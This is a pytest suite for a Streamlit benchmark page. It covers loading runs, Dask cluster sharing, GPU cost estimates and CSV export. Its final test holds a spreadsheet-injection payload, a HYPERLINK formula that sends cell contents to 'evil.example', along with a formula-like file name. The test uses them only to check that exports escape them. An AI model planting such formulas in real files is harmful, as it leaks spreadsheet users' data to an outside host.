"""The Benchmark page through AppTest: a run here, saved runs loaded side by side, a bad file."""

from __future__ import annotations

import io
import json
import re

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from pipeline.bench.harness import BenchSettings, run_bench
from pipeline.engines import CPU
from tests.support.apptest import open_page, problems

pytest.importorskip("polars", reason="the page tests compare pandas with the polars and DuckDB peers")
pytest.importorskip("duckdb", reason="the page tests compare pandas with the polars and DuckDB peers")


def open_benchmark() -> AppTest:
    return open_page("pages/benchmark.py")


@pytest.fixture(scope="module")
def saved_runs() -> list[tuple[str, bytes]]:
    """Two results files as two machines would write them: same questions, different sizes and machines."""
    files = []
    for rows, machine in ((2_000, "laptop"), (4_000, "server")):
        results = run_bench(BenchSettings(("groupby",), (CPU, "polars"), (rows,), repeats=1))
        data = results.to_dict()
        data["environment"]["machine"]["cpu"] = machine
        files.append((f"{machine}.json", json.dumps(data).encode()))
    return files


def test_a_run_here_fills_the_charts_and_table():
    at = open_benchmark()
    at.multiselect(key="bench_suites").set_value(["join"])
    at.multiselect(key="bench_engines").set_value([CPU, "duckdb"])
    at.multiselect(key="bench_sizes").set_value([10_000])
    at.number_input(key="bench_repeats").set_value(1)
    at.button(key="bench_go").click().run()
    assert not problems(at)
    records = next(d.value for d in at.dataframe if "median (s)" in d.value.columns)
    assert sorted(records["question"].unique()) == ["q1", "q2", "q3", "q4", "q5"]
    assert set(records["status"]) == {"ok"}
    assert len(at.get("vega_lite_chart")) == 2, "time against rows, and the speed-up heatmap"
    assert at.selectbox(key="bench_other").value == "DuckDB (CPU)"


def test_two_saved_runs_load_side_by_side_and_a_bad_file_changes_nothing(saved_runs):
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([(name, data, "application/json") for name, data in saved_runs])
    at.run()
    at.button(key="bench_load").click().run()
    assert not problems(at)
    assert at.multiselect(key="bench_shown").value == ["laptop.json", "server.json"]
    environment = next(d.value for d in at.dataframe if "commit" in d.value.columns)
    assert environment["CPU"].tolist() == ["laptop", "server"]
    series = at.selectbox(key="bench_other").options
    assert "laptop.json · polars (CPU)" in series and "server.json · CPU (pandas)" in series
    shown = (at.selectbox(key="bench_other").value, at.selectbox(key="bench_baseline").value)
    assert shown == ("laptop.json · polars (CPU)", "laptop.json · CPU (pandas)"), (
        "first: a peer over the same run's CPU"
    )
    at.selectbox(key="bench_question").set_value("q3").run()
    assert len(at.get("vega_lite_chart")) == 2
    at.file_uploader(key="bench_files").set_value([("other.json", b'{"hello": 1}', "application/json")]).run()
    at.button(key="bench_load").click().run()
    assert any("other.json is not a benchmark results file" in e for e in problems(at))
    assert list(at.session_state["bench_runs"]) == ["laptop.json", "server.json"], "what was loaded stays"


def test_the_published_runs_load_in_one_click():
    at = open_benchmark()
    at.multiselect(key="bench_suites").set_value(["groupby"])
    at.multiselect(key="bench_sizes").set_value([10_000])
    at.number_input(key="bench_repeats").set_value(1)
    at.button(key="bench_go").click().run()
    mine = next(iter(at.session_state["bench_runs"]))
    at.button(key="bench_shipped").click().run()
    assert not problems(at)
    shown = at.multiselect(key="bench_shown").value
    assert shown[:2] == [mine, "bench_cpu.json"] and "bench_models_cpu.json" in shown, "new runs are shown at once"
    assert len(at.get("vega_lite_chart")) == 2
    assert f"{mine} · CPU (pandas)" in at.selectbox(key="bench_other").options


def test_the_dask_engine_runs_here_on_the_local_cluster_the_operator_sized(monkeypatch):
    pytest.importorskip("distributed")
    from pipeline.engines.dask import close_dask_engines

    monkeypatch.setenv("GPL_DASK_SCHEDULERS", "lab=tcp://127.0.0.1:1")
    at = open_benchmark()
    assert "Dask CPU (dask.dataframe)" in at.multiselect(key="bench_engines").options
    assert "dask-cpu" not in at.multiselect(key="bench_engines").value, "never chosen by default"
    at.multiselect(key="bench_suites").set_value(["groupby", "io"])
    at.multiselect(key="bench_engines").set_value([CPU, "dask-cpu"])
    at.multiselect(key="bench_sizes").set_value([10_000])
    at.number_input(key="bench_repeats").set_value(1)
    assert at.selectbox(key="bench_dask_cluster").options[1] == "lab (tcp://127.0.0.1:1)", "no address can be typed"
    at.selectbox(key="bench_dask_cluster").set_value("lab")
    at.button(key="bench_go").click().run()
    assert any("at tcp://127.0.0.1:1 cannot be used: the connection was refused" in e for e in problems(at))
    monkeypatch.setenv("GPL_DASK_WORKERS", "1")
    monkeypatch.setenv("GPL_DASK_MEMORY_MB", "1024")
    at.selectbox(key="bench_dask_cluster").set_value("local")
    at.button(key="bench_go").click().run()
    try:
        assert not problems(at)
        records = next(d.value for d in at.dataframe if "median (s)" in d.value.columns)
        dask = records[records["engine"] == "Dask CPU (dask.dataframe)"]
        assert set(dask[dask["suite"] == "groupby"]["status"]) == {"ok"} and len(dask[dask["suite"] == "groupby"]) == 10
        assert set(dask[dask["suite"] == "io"]["status"]) == {"skipped"}
    finally:
        close_dask_engines()


def test_a_benchmark_run_on_the_shared_cluster_is_counted_and_another_session_cannot_shut_it_down(monkeypatch):
    """Session A's run holds the local cluster (paused at its first Dask question); session B joins it on the System
    page, sees A counted, is offered Leave (not Shut down) and leaves: the cluster stays up and A's run completes."""
    pytest.importorskip("distributed")
    import threading

    from pipeline.bench import harness
    from pipeline.engines.cluster import local_settings
    from pipeline.engines.dask import close_dask_engines, cluster_users, running_dask_engine

    monkeypatch.setenv("GPL_DASK_WORKERS", "1")
    monkeypatch.setenv("GPL_DASK_MEMORY_MB", "1024")
    on_dask, go_on = threading.Event(), threading.Event()
    ask = harness.ask

    def ask_after_b(contender, *args):  # A's run waits at its first Dask question until B has acted
        if contender.engine.lazy and not on_dask.is_set():
            on_dask.set()
            go_on.wait(60)
        return ask(contender, *args)

    monkeypatch.setattr(harness, "ask", ask_after_b)
    first = open_benchmark()
    first.multiselect(key="bench_suites").set_value(["groupby"])
    first.multiselect(key="bench_engines").set_value([CPU, "dask-cpu"])
    first.multiselect(key="bench_sizes").set_value([10_000])
    first.number_input(key="bench_repeats").set_value(1)
    first.button(key="bench_go").click()
    run = threading.Thread(target=first.run)
    second = open_page("pages/system.py")
    run.start()
    try:
        assert on_dask.wait(120), "A's run reached the cluster"
        second.button(key="dask_go").click().run()
        assert not problems(second)
        assert {m.label: m.value for m in second.metric}["Other sessions on it"] == "1", "A's run is counted"
        assert second.button(key="dask_close").label == "Leave the cluster", "no Shut down under A's run"
        second.button(key="dask_close").click().run()
        assert any("Left the cluster; it keeps running for the other sessions" in c.value for c in second.caption)
        assert running_dask_engine(local_settings()) is not None
    finally:
        go_on.set()
        run.join(120)
    try:
        assert not run.is_alive() and not problems(first)
        records = next(d.value for d in first.dataframe if "median (s)" in d.value.columns)
        dask = records[records["engine"] == "Dask CPU (dask.dataframe)"]
        assert len(dask) == 10 and set(dask["status"]) == {"ok"}, dask[["question", "status"]]
        assert cluster_users(local_settings()) == set(), "A's run counted only while it ran"
    finally:
        close_dask_engines()


def test_the_dask_scaling_tab_charts_the_published_report_and_refuses_a_bad_one():
    at = open_benchmark()
    assert len(at.get("vega_lite_chart")) == 0, "drawn only when its tab is open"
    at.session_state["bench_tab"] = "Dask scaling"
    at.run()
    assert at.selectbox(key="bench_scaling_report").value == "dask_scaling_cpu.json"
    assert len(at.get("vega_lite_chart")) == 2, "time against rows and against workers"
    out_of_core = next(d.value for d in at.dataframe if "seconds (limited)" in d.value.columns)
    assert out_of_core["work"].tolist()[:3] == ["groupby q1", "groupby q2", "groupby q4"]
    assert set(out_of_core["answer"][:3]) == {"agrees"}
    assert any("Larger than memory:** 30,000,000 rows" in m.value for m in at.markdown)
    at.file_uploader(key="bench_scaling_file").set_value(("x.json", b'{"runs": 3}', "application/json")).run()
    assert any("x.json is not a Dask scaling report" in e for e in problems(at))
    assert len(at.get("vega_lite_chart")) == 2, "the published report is still shown"


def test_one_failed_answer_is_counted_in_the_singular(saved_runs):
    name, raw = saved_runs[0]
    data = json.loads(raw)
    data["records"][0] |= {"status": "failed", "message": "answer differs from the reference"}
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([(name, json.dumps(data).encode(), "application/json")])
    at.run()
    at.button(key="bench_load").click().run()
    warnings = [w.value for w in at.warning]
    assert any(w.startswith("1 answer failed its check or raised; it is not timed") for w in warnings), warnings


def test_the_runs_stay_with_their_tabs_not_under_the_dask_scaling_report(saved_runs):
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([(name, data, "application/json") for name, data in saved_runs])
    at.run()
    at.button(key="bench_load").click().run()
    assert any("median (s)" in d.value.columns for d in at.dataframe), "the runs under Load results"
    at.session_state["bench_tab"] = "Dask scaling"
    at.run()
    assert not problems(at)
    assert not any("median (s)" in d.value.columns for d in at.dataframe), "no runs under the Dask scaling report"
    assert "bench_forget" not in [b.key for b in at.button]


def test_the_published_figures_tab_names_each_figures_source_and_hardware():
    at = open_benchmark()
    at.session_state["bench_tab"] = "Published figures"
    at.run()
    assert not problems(at)
    figures = next(d.value for d in at.dataframe if "speedup_low" in d.value.columns)
    assert figures[["source", "gpu", "cpu", "date"]].map(bool).all().all()
    group_by = figures[figures["work"] == "group-by"].iloc[0]
    assert group_by["speedup_low"] == 138.5 and "H100" in group_by["gpu"] and group_by["date"] == "2023-02-06"
    chart = at.get("vega_lite_chart")[0].proto.spec
    assert "not measured here" in chart
    fixed = next(d.value for d in at.dataframe if "GPU seconds" in d.value.columns)
    assert set(fixed["library"]) == {"cuDF", "cuML"} and fixed["url"].str.startswith("https://").all()
    assert (fixed["CPU seconds"] < fixed["GPU seconds"]).all(), "every small-table timing had the CPU faster"
    assert not any("median (s)" in d.value.columns for d in at.dataframe), "never mixed with the runs"


def test_cpu_only_runs_get_an_estimated_gpu_curve_and_break_even_labelled_as_estimates(saved_runs):
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([(saved_runs[0][0], saved_runs[0][1], "application/json")])
    at.run()
    at.button(key="bench_load").click().run()
    assert not problems(at)
    estimate = next(w.value for w in at.warning if "Estimated break-even at your prices" in w.value)
    assert "an estimate, not a measurement" in estimate and "no run here timed the GPU" in estimate
    assert "at the published figures the GPU pays off" not in estimate, "the old verdict held for any size"
    found = [
        int(n.replace(",", ""))
        for n in re.findall(r"The GPU would cost less per run from about ([\d,]+) rows", estimate)
    ]
    found += [int(n.replace(",", "")) for n in re.findall(r"and from about ([\d,]+) rows at the slowest", estimate)]
    assert found and found == sorted(found), "the break-even row count, or its range from the fastest to the slowest"
    assert found[0] >= 10_000, "never below the 10,000 rows up to which the sources timed the CPU faster"
    assert "138.5× for group-by" in estimate and "fixed GPU cost per call" in estimate
    chart = at.get("vega_lite_chart")[0].proto
    assert any(b"GPU (estimate)" in dataset.data.data for dataset in chart.datasets), "named an estimate in the legend"
    layers = json.loads(chart.spec)["layer"]
    assert [layer["mark"]["type"] for layer in layers] == ["line", "area", "rule", "line"]
    assert layers[3]["mark"]["strokeDash"] and layers[0]["encoding"]["y"]["title"] == "seconds"
    assert any("an estimate, not a measurement" in c.value and "dashed" in c.value for c in at.caption)
    sizes = next(d.value for d in at.dataframe if "GPU time (estimate)" in d.value.columns)
    assert sizes["rows"].tolist() == ["2,000"] and not sizes.isna().any().any()
    assert sizes["cheaper (estimate)"].tolist() == ["CPU"]
    prices = next(d.value for d in at.dataframe if "price per hour" in d.value.columns)
    assert prices["price per hour"].tolist() == [1.5, 4.0]
    assert any("Example prices, not a quote" in c.value for c in at.caption)


def test_a_run_that_timed_both_engines_gives_the_measured_break_even(saved_runs):
    data = json.loads(saved_runs[0][1])
    gpu_records = []
    for record in data["records"]:
        if record["engine"] == CPU and record["status"] == "ok":
            twin = dict(record, engine="gpu", engine_label="GPU (cuDF)")
            twin["median_s"] = record["median_s"] / 10  # ten times faster: pays at 4.0/1.5 = 2.7×
            gpu_records.append(twin)
    data["records"] += gpu_records
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([("both.json", json.dumps(data).encode(), "application/json")])
    at.run()
    at.button(key="bench_load").click().run()
    assert not problems(at)
    assert any("(measured): The GPU costs less at every size measured" in m.value for m in at.markdown)
    costs = next(d.value for d in at.dataframe if "gpu_cost" in d.value.columns)
    assert costs["cheaper"].tolist() == ["GPU"]
    assert not any("Estimated break-even" in w.value for w in at.warning)


def test_a_stopped_run_keeps_its_records_and_says_so(saved_runs):
    from pipeline.bench.results import load_results

    name, raw = saved_runs[0]
    partial = load_results(raw, name)
    partial.records = partial.records[:5]  # as a Stop click between two questions leaves it
    at = open_benchmark()
    at.session_state["bench_runs"] = {"this session 10:00:00": partial}
    at.session_state["bench_running"] = "this session 10:00:00"
    at.session_state["bench_shown"] = ["this session 10:00:00"]
    at.run()
    assert not problems(at)
    assert any("was stopped before it finished; its 5 records so far are kept" in w.value for w in at.warning)
    at.run()
    assert not any("was stopped" in w.value for w in at.warning), "said once"


def test_a_stopped_run_is_shown_beside_the_runs_shown_before_it_started(saved_runs):
    from pipeline.bench.results import load_results

    name, raw = saved_runs[0]
    at = open_benchmark()
    at.session_state["bench_runs"] = {name: load_results(raw, name)}
    at.session_state["bench_shown"] = [name]
    at.run()
    at.multiselect(key="bench_suites").set_value(["join"])
    at.multiselect(key="bench_engines").set_value([CPU])
    at.multiselect(key="bench_sizes").set_value([10_000])
    at.number_input(key="bench_repeats").set_value(1)
    at.button(key="bench_go").click().run()
    assert not problems(at)
    runs = at.session_state["bench_runs"]
    stopped = next(run for run in runs if run != name)
    runs[stopped].records = runs[stopped].records[:2]  # as a Stop click after the second question leaves it
    at.session_state["bench_running"] = stopped
    at.session_state["bench_shown"] = [name]  # the browser reports the choice as it was before the run began
    at.run()
    assert not problems(at)
    assert at.multiselect(key="bench_shown").value == [name, stopped]
    said = f"{stopped} was stopped before it finished; its 2 records so far are kept and shown"
    assert any(said in w.value for w in at.warning)
    records = next(d.value for d in at.dataframe if "median (s)" in d.value.columns)
    assert (records["run"] == stopped).sum() == 2


def test_a_run_stopped_before_its_first_answer_is_shown_without_records(saved_runs):
    from pipeline.bench.results import load_results

    name, raw = saved_runs[0]
    empty = load_results(raw, name)
    empty.records = []  # stopped while its tables were being made
    at = open_benchmark()
    at.session_state["bench_runs"] = {"this session 10:00:00": empty}
    at.session_state["bench_running"] = "this session 10:00:00"
    at.run()
    assert not problems(at)
    assert at.multiselect(key="bench_shown").value == ["this session 10:00:00"]
    assert any("No question finished yet" in i.value for i in at.info)


def test_a_run_here_is_kept_from_its_start_and_finishes_complete():
    at = open_benchmark()
    at.multiselect(key="bench_suites").set_value(["join"])
    at.multiselect(key="bench_engines").set_value([CPU])
    at.multiselect(key="bench_sizes").set_value([10_000])
    at.number_input(key="bench_repeats").set_value(1)
    at.button(key="bench_go").click().run()
    assert not problems(at) and "bench_running" not in at.session_state
    (run,) = at.session_state["bench_runs"].values()
    assert len(run.records) == 5 and not any("was stopped" in w.value for w in at.warning)


def test_the_records_csv_opens_as_data_in_a_spreadsheet(saved_runs, downloads):
    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    data = json.loads(saved_runs[0][1])
    data["records"][0] |= {"status": "error", "message": link, "median_s": None}
    at = open_benchmark()
    at.file_uploader(key="bench_files").set_value([("@SUM(1+1).json", json.dumps(data).encode(), "application/json")])
    at.run()
    at.button(key="bench_load").click().run()
    assert not problems(at)
    table = pd.read_csv(io.BytesIO(downloads.data(at, "bench_csv")), dtype={"message": object})
    assert set(table["run"]) == {"'@SUM(1+1).json"}, "the file's name is written as text"
    assert table.loc[0, "message"] == "'" + link, "so is the record's message"
    assert table["median_s"].dtype == float and (table["median_s"].dropna() > 0).all(), "the times stay numbers"
